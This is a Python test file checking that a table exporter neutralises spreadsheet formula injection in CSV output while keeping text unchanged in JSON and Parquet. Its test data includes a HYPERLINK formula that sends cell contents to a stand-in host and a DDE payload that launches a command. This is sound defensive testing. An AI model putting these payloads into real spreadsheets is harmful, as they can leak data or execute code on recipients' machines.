from __future__ import annotations

import csv
import io
from pathlib import Path

import polars as pl
import pytest

from flows.tabular import encode, write_table

FORMULAS = [
    '=HYPERLINK("http://x.example/"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1",
]  # fmt: skip


def test_no_formula_leaves_in_csv(tmp_path: Path) -> None:
    frame = pl.DataFrame({"title": [*FORMULAS, "Plain = text", None], "n": [-1, *range(7)]})
    write_table(frame, tmp_path / "a.csv")
    for content in (encode(frame, "csv"), (tmp_path / "a.csv").read_bytes()):
        rows = list(csv.DictReader(io.StringIO(content.decode(), newline="")))
        assert [r["title"] for r in rows] == [*(f"'{f}" for f in FORMULAS), "Plain = text", ""]
        assert rows[0]["n"] == "-1"  # a number is a number


@pytest.mark.parametrize("kind", ["json", "parquet"])
def test_other_formats_hold_text_as_it_is(kind: str) -> None:
    frame = pl.DataFrame({"title": FORMULAS})
    read = {"json": pl.read_ndjson, "parquet": pl.read_parquet}[kind]
    assert read(io.BytesIO(encode(frame, kind))).equals(frame)
